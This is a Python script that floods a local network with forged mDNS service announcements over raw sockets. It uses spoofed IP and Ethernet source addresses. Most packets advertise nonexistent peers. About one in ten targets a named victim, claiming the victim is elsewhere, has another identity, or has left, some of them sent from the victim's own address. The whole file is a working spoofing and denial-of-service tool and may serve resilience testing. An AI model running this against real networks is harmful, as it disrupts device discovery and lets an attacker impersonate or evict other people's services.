#!/usr/bin/env python3
"""Announces peers that do not exist, each from an address of its own.

  flood.py INTERFACE SERVICE RATE SECONDS [VICTIM-NAME VICTIM-ID VICTIM-ADDRESS]

Nine of ten packets announce another peer; the tenth says by turns that the victim is elsewhere, is somebody else, or
leaves, a quarter of these from the victim's own address. To be called as root.
"""
import base64
import os
import random
import socket
import struct
import sys
import time

interface, service, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
victim = sys.argv[5:8]


def name(*labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(owner, kind, ttl, data, flush=True):
    return owner + struct.pack("!HHIH", kind, 0x8001 if flush else 1, ttl, len(data)) + data


def response(instance, identifier, port, address, leaves=False):
    service_type = name(b"_" + service.encode(), b"_tcp", b"local")
    whole = bytes([len(instance)]) + instance + service_type
    host = name(b"h" + identifier[:12], b"local")
    text = b"".join(bytes([len(word)]) + word for word in (b"_v=1", b"_id=" + identifier))
    answers = [
        record(service_type, 12, 0 if leaves else 4500, whole, flush=False),
        record(whole, 33, 120, struct.pack("!HHH", 0, 0, port) + host),
        record(whole, 16, 4500, text),
        record(host, 1, 120, address),
    ]
    answers = answers[:1] if leaves else answers
    return struct.pack("!HHHHHH", 0, 0x8400, 0, len(answers), 0, 0) + b"".join(answers)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def packet():
    address = bytes([10, 77, random.randrange(256), random.randrange(3, 250)])
    identifier = base64.b32encode(os.urandom(32)).decode().rstrip("=").lower().encode()
    instance = b"Eve (" + identifier[:8] + b")"
    if victim and random.random() < 0.1:
        kind = random.randrange(3)
        source = socket.inet_aton(victim[2]) if random.random() < 0.25 else address
        instance, identifier = victim[0].encode(), victim[1].encode() if kind != 1 else identifier
        payload = response(instance, identifier, 4711, address, leaves=kind == 2)
    else:
        source = address
        payload = response(instance, identifier, 4711, address)
    udp = struct.pack("!HHHH", 5353, 5353, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 255, 17, 0) + source + bytes([224, 0, 0, 251])
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    ethernet = bytes([0x01, 0x00, 0x5E, 0, 0, 0xFB, 0x02]) + os.urandom(5) + b"\x08\x00"
    return ethernet + ip + udp


packets = [packet() for _ in range(min(40_000, int(rate * seconds)))]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
print("flooding", flush=True)
start, sent = time.monotonic(), 0
while sent < rate * seconds:
    due = int((time.monotonic() - start) * rate)
    while sent < due:
        wire.send(packets[sent % len(packets)])
        sent += 1
    time.sleep(0.002)
print(f"sent {sent} in {time.monotonic() - start:.1f} s", flush=True)
